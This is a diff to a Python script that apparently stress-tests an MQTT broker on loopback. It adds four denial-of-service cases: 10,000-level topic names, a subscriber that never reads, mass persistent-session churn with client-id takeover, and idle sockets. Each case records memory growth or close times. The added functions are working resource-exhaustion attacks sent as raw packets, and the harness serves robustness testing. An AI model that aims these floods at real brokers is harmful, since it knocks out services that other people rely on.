@@ -4,7 +4,8 @@
     attack.py PORT PID CASE
 
 Prints one line `RESULT case=... key=value ...`. Cases: slowloris,
-big_claim, subscribe_10k, retained_flood, ping_flood. Only loopback; every
+big_claim, subscribe_10k, retained_flood, ping_flood, deep_topic,
+slow_consumer, session_churn, idle_sockets. Only loopback; every
 wait is bounded; plain sockets (no client library), so that the bytes are
 exactly the attack's.
 """
@@ -196,12 +197,150 @@ def ping_flood(port, pid):
     return f"pingreq_taken_kib={sent // 1024} rss_grew_kib={after - before}"
 
 
+def suback_codes(c, within=10):
+    """The return codes of the next SUBACK on c (reading past other packets)."""
+    buf, end = b"", time.time() + within
+    c.settimeout(1)
+    while time.time() < end:
+        try:
+            got = c.recv(65536)
+        except socket.timeout:
+            continue
+        if not got:
+            return None
+        buf += got
+        while len(buf) >= 2:
+            n, i, mult = 0, 1, 1
+            while i < len(buf) and buf[i] & 0x80:
+                n += (buf[i] & 0x7F) * mult
+                mult *= 128
+                i += 1
+            if i >= len(buf):
+                break
+            n += buf[i] * mult
+            if len(buf) < 1 + i + n:
+                break
+            if buf[0] == 0x90:
+                return buf[1 + i + 2:1 + i + n]
+            buf = buf[1 + i + n:]
+    return None
+
+
+def deep_topic(port, pid):
+    """A SUBSCRIBE and a PUBLISH with 10,000-level names (20 KB each)."""
+    before = rss_kib(pid)
+    name = ("a/" * 9_999 + "a").encode()
+    sub = connect(port, "deep-sub")
+    start = time.time()
+    sub.sendall(pkt(0x82, struct.pack(">H", 1) + s(name) + b"\x00"))
+    codes = suback_codes(sub)
+    code = "none" if codes is None else f"{codes[0]:#04x}"
+    pub = connect(port, "deep-pub")
+    pub.sendall(pkt(0x30, s(name) + b"x"))
+    t = closed_within(pub, 3)
+    ms = (time.time() - start) * 1000
+    outcome = "kept" if t is None else "closed"
+    return f"suback={code} publisher={outcome} total_ms={ms:.0f} rss_grew_kib={settle(pid, 3) - before}"
+
+
+def slow_consumer(port, pid):
+    """A QoS 0 subscriber that never reads gets 50,000 x 1 KiB (50 MiB)."""
+    before = rss_kib(pid)
+    sub = connect(port, "slow-sub", rcvbuf=4096)
+    sub.sendall(pkt(0x82, struct.pack(">H", 1) + s(b"slow/#") + b"\x00"))
+    time.sleep(0.5)
+    p = connect(port, "fast-pub")
+    msg = pkt(0x30, s(b"slow/x") + b"x" * 1024)
+    start, sent = time.time(), 0
+    while sent < 50_000 and time.time() - start < 20:
+        p.sendall(msg * 500)
+        sent += 500
+    p.sendall(b"\xc0\x00")
+    p.settimeout(20)
+    got = b""
+    while not got.endswith(b"\xd0\x00") and time.time() - start < 30:
+        got += p.recv(65536)
+    after = settle(pid, 4)
+    sub.close()
+    return f"sent={sent} secs={time.time() - start:.1f} rss_grew_kib={after - before}"
+
+
+def session_churn(port, pid):
+    """5,000 persistent sessions made and left (clean=0, one SUBSCRIBE
+    each), then one client id taken over 5,000 times."""
+    before = rss_kib(pid)
+    start = time.time()
+    made = 0
+    for i in range(5_000):
+        if time.time() - start > 25:
+            break
+        c = socket.create_connection((HOST, port), timeout=5)
+        cid = f"churn-{i}".encode()
+        c.sendall(pkt(0x10, s(b"MQTT") + bytes([4, 0]) + struct.pack(">H", 600) + s(cid)))
+        c.sendall(pkt(0x82, struct.pack(">H", 1) + s(b"churn/" + cid) + b"\x01") + b"\xe0\x00")
+        try:
+            while c.recv(4096):
+                pass
+        except OSError:
+            pass
+        c.close()
+        made += 1
+    mid = settle(pid, 3)
+    taken = 0
+    for _ in range(5_000):
+        if time.time() - start > 35:
+            break
+        c = socket.create_connection((HOST, port), timeout=5)
+        c.sendall(pkt(0x10, s(b"MQTT") + bytes([4, 0]) + struct.pack(">H", 600) + s(b"same")) + b"\xe0\x00")
+        try:
+            while c.recv(4096):
+                pass
+        except OSError:
+            pass
+        c.close()
+        taken += 1
+    after = settle(pid, 3)
+    per = (mid - before) * 1024 / made if made else 0
+    return (f"sessions={made} rss_grew_kib={mid - before} bytes_per_session={per:.0f} "
+            f"takeovers={taken} rss_grew_after_takeovers_kib={after - mid}")
+
+
+def idle_sockets(port, pid):
+    """50 connections that never send a byte: when the broker closes them."""
+    conns = [socket.create_connection((HOST, port), timeout=5) for _ in range(50)]
+    start = time.time()
+    for c in conns:
+        c.setblocking(False)
+    closed = [None] * 50
+    while time.time() - start < 15 and any(x is None for x in closed):
+        for k, c in enumerate(conns):
+            if closed[k] is not None:
+                continue
+            try:
+                if c.recv(64) == b"":
+                    closed[k] = time.time() - start
+            except BlockingIOError:
+                pass
+            except OSError:
+                closed[k] = time.time() - start
+        time.sleep(0.2)
+    done = [x for x in closed if x is not None]
+    for c in conns:
+        c.close()
+    worst = f"{max(done):.1f}" if done else "-"
+    return f"closed={len(done)}/50 after_s={worst} (15 s watched)"
+
+
 CASES = {
     "slowloris": slowloris,
     "big_claim": big_claim,
     "subscribe_10k": subscribe_10k,
     "retained_flood": retained_flood,
     "ping_flood": ping_flood,
+    "deep_topic": deep_topic,
+    "slow_consumer": slow_consumer,
+    "session_churn": session_churn,
+    "idle_sockets": idle_sockets,
 }
 
 if __name__ == "__main__":
